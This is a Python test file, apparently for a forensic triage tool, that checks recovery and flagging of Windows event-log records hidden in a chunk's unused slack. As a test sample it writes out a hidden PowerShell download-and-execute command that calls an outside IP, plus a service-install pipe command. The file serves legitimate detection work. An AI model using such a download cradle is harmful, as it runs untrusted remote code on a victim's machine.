"""Records behind the end of a chunk: found, read with or without their names, and told as such."""

from __future__ import annotations

import base64
import random
import struct
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.builders import snapshot
from tests.content import payloads
from triage.analyze import analyze
from triage.events.one_log import read_log
from triage.model import Gap, Location
from triage.model.windows import EventLog, EventRecord
from triage.parsers import Malformed
from triage.parsers.evtx import CHUNK_SIZE, HEADER_SIZE, chunk_header, places
from triage.parsers.evtx_values import Values, values
from triage.scope import Limits
from triage.snapshot import dumps, loads

FILETIME = 133_600_000_000_000_000  # May 2024
CODE = base64.b64encode(payloads.pe(random.Random(7))).decode()
HIDDEN = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\""
Value = tuple[int, bytes]


def wide(text: str) -> Value:
    return 1, text.encode("utf-16-le")


def record(
    at: int, number: int, given: list[Value], *, inline: bool = True, template: int = 7
) -> bytes:
    """One record to stand at ``at`` in its chunk: an instance of a template with these values."""
    body = b"\x0f\x01\x01\x00" + struct.pack(
        "<BBII", 0x0C, 1, template, at + 24 + 4 + 10 if inline else 600
    )
    if inline:
        body += struct.pack("<I16sI", 0, struct.pack("<I", template) + bytes(12), 8) + bytes(8)
    body += struct.pack("<I", len(given))
    body += b"".join(struct.pack("<HBx", len(data), kind) for kind, data in given)
    body += b"".join(data for _, data in given)
    size = 24 + len(body) + 4
    head = b"**\0\0" + struct.pack("<IQQ", size, number, FILETIME)
    return head + body + struct.pack("<I", size)


def log(free: int, parts: list[tuple[int, bytes]]) -> bytes:
    """A file of one chunk that says its records end at ``free``."""
    chunk = bytearray(CHUNK_SIZE)
    struct.pack_into("<8s4Q3I", chunk, 0, b"ElfChnk\0", 1, 1, 1, 1, 128, 512, free)
    for at, data in parts:
        chunk[at : at + len(data)] = data
    head = bytearray(HEADER_SIZE)
    head[:8] = b"ElfFile\0"
    head[42:44] = (1).to_bytes(2, "little")
    return bytes(head + chunk)


def told(data: bytes) -> list[EventRecord | EventLog | Gap]:
    def read(at: int, size: int) -> bytes:
        return data[at : at + size]

    return list(read_log(Location("/Test.evtx"), BytesIO(data), read, len(data), Limits()))


def named(provider: str, event_id: int, *texts: str) -> list[Value]:
    number = event_id.to_bytes(2, "little")
    system: list[Value] = [(4, b"\4"), (4, b"\0"), (6, b"\0\0"), (6, number)]
    return [*system, wide(provider), wide("A/Operational"), *map(wide, texts)]


@pytest.mark.parametrize("inline", [True, False])
def test_a_command_in_a_record_whose_template_is_gone(inline: bool) -> None:
    sysmon = named("Microsoft-Windows-Sysmon", 1, "2024-05-11", HIDDEN)
    found = told(log(2000, [(3000, record(3000, 9, sysmon, inline=inline))]))
    (one,) = [item for item in found if isinstance(item, EventRecord)]
    assert (one.act, one.records, one.first) == ("process-start", (9,), "2024-05-12T15:06:40Z")
    report = analyze(loads(dumps(snapshot(one))))
    (subject,) = report.subjects
    assert subject.severity.value == "high"
    assert any("unused rest of a chunk" in line for line in subject.findings[0].evidence)


def test_a_payload_in_a_value_whose_name_is_gone() -> None:
    parts = [(3000, record(3000, 9, named("Vendor", 1423, CODE), inline=False))]
    found = told(log(2000, parts))
    acts = [item.act for item in found if isinstance(item, EventRecord)]
    assert acts == ["stored-data"]
    assert [item.unused for item in found if isinstance(item, EventLog)] == [1]


def test_a_script_and_a_service() -> None:
    script = named("Microsoft-Windows-PowerShell", 4104, HIDDEN.partition(" -c ")[2])
    command = "%COMSPEC% /c echo a > \\\\.\\pipe\\a"
    service = named("Service Control Manager", 7045, "abcdef", command)
    parts = [(3000, record(3000, 8, script)), (9000, record(9000, 9, service))]
    found = [item for item in told(log(2000, parts)) if isinstance(item, EventRecord)]
    assert [item.act for item in found] == ["script", "service-install"]
    assert all("slack" in item.traits for item in found)


def test_ordinary_remnants_and_what_is_none_are_not_told() -> None:
    quiet = named("Microsoft-Windows-Sysmon", 1, "C:\\Windows\\explorer.exe", "explorer.exe")
    old = bytearray(record(9000, 8, named("Vendor", 1, CODE)))
    old[16:24] = bytes(8)  # no time of any event
    parts = [(3000, record(3000, 9, quiet)), (9000, bytes(old))]
    found = told(log(2000, parts))
    assert [item for item in found if isinstance(item, EventRecord)] == []
    assert [item.unused for item in found if isinstance(item, EventLog)] == [1]


def test_what_the_log_itself_holds_is_not_told_again(corpus: Path) -> None:
    data = (corpus / "evtx" / "parser" / "samples" / "sysmon.evtx").read_bytes()
    whole = told(data)
    chunk = data[HEADER_SIZE : HEADER_SIZE + CHUNK_SIZE]
    head = chunk_header(chunk)
    assert head is not None
    found = [place for place in places(chunk) if place.start < head.free_offset]
    shorter = bytearray(data)
    middle = found[len(found) // 2]
    struct.pack_into("<2I", shorter, HEADER_SIZE + 44, middle.start, middle.end)
    again = told(bytes(shorter))
    (before,) = [item for item in whole if isinstance(item, EventLog)]
    (after,) = [item for item in again if isinstance(item, EventLog)]
    # The package goes by sizes, not by the header: all are read as before, and none is told twice.
    assert before.records == after.records + after.unused - before.unused


def test_values_are_read_in_order() -> None:
    several = (0x81, "b\0c\0".encode("utf-16-le"))
    data = record(512, 1, [wide("a"), several, (0x0E, b"\1\2"), (4, b"x")])
    chunk = bytes(512) + data + bytes(CHUNK_SIZE - 512 - len(data))
    assert values(chunk, 512, 512 + len(data)) == Values(True, None, ("a", "b", "c"), (b"\1\2",))


def test_a_record_in_a_record_that_says_it_is_its_own_end() -> None:
    inner = b"\x0f\x01\x01\x00" + struct.pack("<BBII", 0x0C, 1, 7, 600) + struct.pack("<I", 0)
    data = record(512, 1, [(0x21, inner), (0x21, inner * 3)])
    chunk = bytes(512) + data + bytes(CHUNK_SIZE - 512 - len(data))
    assert not values(chunk, 512, 512 + len(data)).whole


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 700), st.integers(0, 255)), max_size=12), st.booleans())
def test_any_damage_gives_values_or_malformed(changes: list[tuple[int, int]], inline: bool) -> None:
    given_ = [*named("Vendor", 7, "text " * 20), (0x21, b"\x0f\x01\x01\x00\x0c"), (0x0E, bytes(64))]
    data = bytearray(record(512, 1, given_, inline=inline))
    for at, byte in changes:
        data[at % len(data)] = byte
    chunk = bytes(512) + bytes(data) + bytes(CHUNK_SIZE - 512 - len(data))
    try:
        values(chunk, 512, 512 + len(data))
    except Malformed:
        pass
    told(log(512, [(512, bytes(data))]))
